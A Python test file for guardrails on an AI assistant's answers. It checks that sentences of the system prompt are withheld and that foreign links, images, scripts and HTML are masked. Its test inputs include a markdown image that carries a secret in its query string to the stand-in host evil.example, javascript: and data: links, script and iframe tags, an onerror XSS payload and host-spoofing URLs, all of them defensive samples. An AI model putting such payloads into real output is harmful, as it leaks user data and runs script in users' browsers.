"""Prompt text, foreign links, images, HTML and scripts in an answer."""

from __future__ import annotations

import pytest

from guardrails.leaks import REMOVED, Markup, PromptLeak
from tests.guardrails.passages import passage

TEMPLATE = (
    "You answer employees of the organisation from the numbered passages below and cite each sentence with its number. "
    'If the passages do not answer, say: "The documents that you may read do not answer this question at all."'
)


def test_sentence_of_the_template_is_withheld() -> None:
    leaked = "Sure: you answer employees of the organisation from the numbered passages below."
    assert PromptLeak(TEMPLATE).check(leaked).rule == "prompt_leak"


def test_sentence_that_the_template_wants_said_passes() -> None:
    said = "The documents that you may read do not answer this question at all."
    assert PromptLeak(TEMPLATE).check(said).allowed


def test_ordinary_sentence_and_quoted_document_pass() -> None:
    guard = PromptLeak(TEMPLATE)
    assert guard.check("Employees of the organisation have 27 days of annual leave.").allowed
    manual = passage("Rule: you answer employees of the organisation from the numbered passages below.")
    assert guard.check("You answer employees of the organisation from the numbered passages below.", [manual]).allowed


markup = Markup(["kestrelbay.example"])


@pytest.mark.parametrize(
    ("text", "clean", "rule"),
    [
        ("Done ![x](https://evil.example/a.png?q=secret) now", "Done x now", "image"),
        ("See [the form](https://evil.example/form).", "See the form.", "foreign_link"),
        ("See https://evil.example/form?d=1.", f"See {REMOVED}.", "foreign_link"),
        ("See <https://evil.example>.", f"See {REMOVED}.", "foreign_link"),
        ("See //evil.example/x now", f"See {REMOVED} now", "foreign_link"),
        ("See www.evil.example now", f"See {REMOVED} now", "foreign_link"),
        ("[go](javascript:alert(1))", "go)", "foreign_link"),
        ("[go](data:text/html;base64,PHNjcmlwdD4=)", "go", "foreign_link"),
        ("Hi <script>fetch('/x')</script>there", "Hi there", "script"),
        ("Hi <img src=x onerror=alert(1)> there", "Hi  there", "html"),
        ("<iframe src='https://evil.example'>", "", "script"),
        ("[1]: https://evil.example/ref", "", "foreign_link"),
        ("https://kestrelbay.example.evil.example/x", REMOVED, "foreign_link"),
        ("https://kestrelbay.example@evil.example/x", REMOVED, "foreign_link"),
    ],
)
def test_what_would_reach_another_host_or_run_is_taken_out(text: str, clean: str, rule: str) -> None:
    verdict = markup.check(text)
    assert (verdict.action, verdict.text, verdict.rule) == ("mask", clean, rule)


@pytest.mark.parametrize(
    "text",
    [
        "See [leave](https://intranet.kestrelbay.example/hr/annual-leave).",
        "Write to [people](mailto:people@kestrelbay.example).",
        "Open [the source](/source/hr-annual-leave/3) for a < b and 3 > 2.",
        "Limits [1] apply, e.g. 5 < 7.",
        "Use KBI-Guest // no password.",
    ],
)
def test_own_links_and_plain_text_stay(text: str) -> None:
    assert markup.check(text).action == "allow"


def test_foreign_link_stays_where_a_cited_passage_holds_that_very_address() -> None:
    source = passage("Rates are published at https://www.gov.uk/expenses each year.")
    assert markup.check("See https://www.gov.uk/expenses.", [source]).allowed
    assert markup.check("See https://www.gov.uk/expenses.", [source]).action == "allow"
    completed = markup.check("See https://www.gov.uk/expenses?name=nora.", [source])
    assert completed.text == f"See {REMOVED}."
